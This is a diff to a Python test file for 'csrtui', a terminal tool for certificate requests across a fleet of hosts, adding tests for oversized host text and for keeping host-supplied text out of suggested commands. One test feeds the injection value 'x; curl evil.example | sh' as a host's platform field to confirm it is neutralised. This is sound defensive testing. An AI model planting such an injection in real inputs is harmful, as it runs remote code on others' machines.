@@ -2,9 +2,10 @@
 
 from __future__ import annotations
 
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, Any
 
 import pytest
+from fleet_made import listed, pair
 from fleet_user import at_fleet
 from hands_at_app import AtTheApp, look_through
 from hostile import ALL_IN_ONE, HOSTILE
@@ -12,6 +13,7 @@ from hostile_fleet import answer_hostile
 from safety_results import counted
 from screen_openings import FLEET_OPENINGS, Opening
 
+from csrtui.core.host_limits import MAX_TEXT
 from csrtui.tui.safe_app import SafeApp
 
 if TYPE_CHECKING:
@@ -26,7 +28,7 @@ PROMISE = "Text from outside is shown, and does nothing"
 WAYS = {
     "narrow": (ALL_IN_ONE, (40, 12)),
     "wide": (ALL_IN_ONE, (120, 40)),
-    "long": (HOSTILE["long"], (80, 24)),
+    "long": (HOSTILE["long"][:MAX_TEXT], (80, 24)),
     "markup": (HOSTILE["action"] + HOSTILE["markup"], (80, 24)),
 }
 
@@ -73,3 +75,32 @@ async def test_every_screen_of_many_hosts_at_every_size(
     with counted(PROMISE, "screens of many hosts") as tally:
         await visit(session, fake, opening, way, tmp_path)
         tally.add(1)
+
+
+async def test_a_list_with_a_text_that_is_too_long_is_a_failure_with_its_remedy(
+    session: Session, fake: FakeAnsible
+) -> None:
+    fake.answers({"web1": listed(pair(subject="x" * 1_000_000)), "web2": listed(pair())})
+    async with at_fleet(session, fake) as user:
+        await user.read()
+        assert user.pairs_of_hosts == [("web2", "a.com")]
+        await user.press("h")
+        assert "too-large: the list of its pairs cannot be read: subject has a text of 1000000" in user.page
+
+
+async def test_the_command_of_a_next_step_has_no_text_of_the_host_in_it(
+    session: Session, fake: FakeAnsible
+) -> None:
+    life = {"status": "verified", "path": "/b", "created": None, "verified": "2026-11-20T09:00:00Z"}
+    harmful: dict[str, Any] = {
+        "stage": "issued",
+        "submitted": "2026-11-23T09:00:00Z",
+        "expires": "2027-11-23T09:00:00Z",
+        "backup": life,
+    }
+    for platform, shown in (("x; curl evil.example | sh", "PLATFORM"), ("nginx", "nginx")):
+        fake.answers({"web1": listed(pair(platform=platform, **harmful))})
+        async with at_fleet(session, fake) as user:
+            await user.read()
+            await user.press("full_stop")
+            assert user.said == f"on web1: csrtui export a.com --for {shown} --to DIR"
